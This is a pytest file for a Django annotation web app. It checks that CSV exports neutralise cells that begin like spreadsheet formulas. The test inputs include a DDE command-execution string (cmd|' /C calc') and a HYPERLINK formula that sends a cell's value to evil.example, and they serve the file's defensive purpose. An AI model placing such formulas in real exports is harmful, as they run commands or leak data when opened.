"""Exports are safe to open (docs/security.md, "Exports"): a vote comment, a prompt or a
system name that starts like a formula is text in the CSV, not a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.webapp.test_evaluation import make_campaign, make_evaluation
from webapp.annotation import actions as annotation_actions
from webapp.annotation import queue
from webapp.lib.exports import safe_cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert safe_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert safe_cell("plain") == "plain" and safe_cell(3) == 3


def test_a_hostile_comment_and_prompt_are_text_in_the_votes_csv(login, personas):
    evaluation = make_evaluation(personas.team, n_prompts=1)
    evaluation.systems.filter(kind="base").update(name="@SUM(1+1)*cmd")
    campaign = make_campaign(evaluation, [personas.annotator])
    assignment = queue.next_assignment(personas.annotator, campaign)
    comment = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    annotation_actions.record_vote(assignment, personas.annotator, "left", comment)
    client = login(personas.owner)
    url = reverse("campaign-export", kwargs={"slug": personas.team.slug, "pk": campaign.pk})
    text = b"".join(client.get(url).streaming_content).decode()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["comment"] == "'" + comment
    assert "'@SUM(1+1)*cmd" in (row["system_a"], row["system_b"])
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
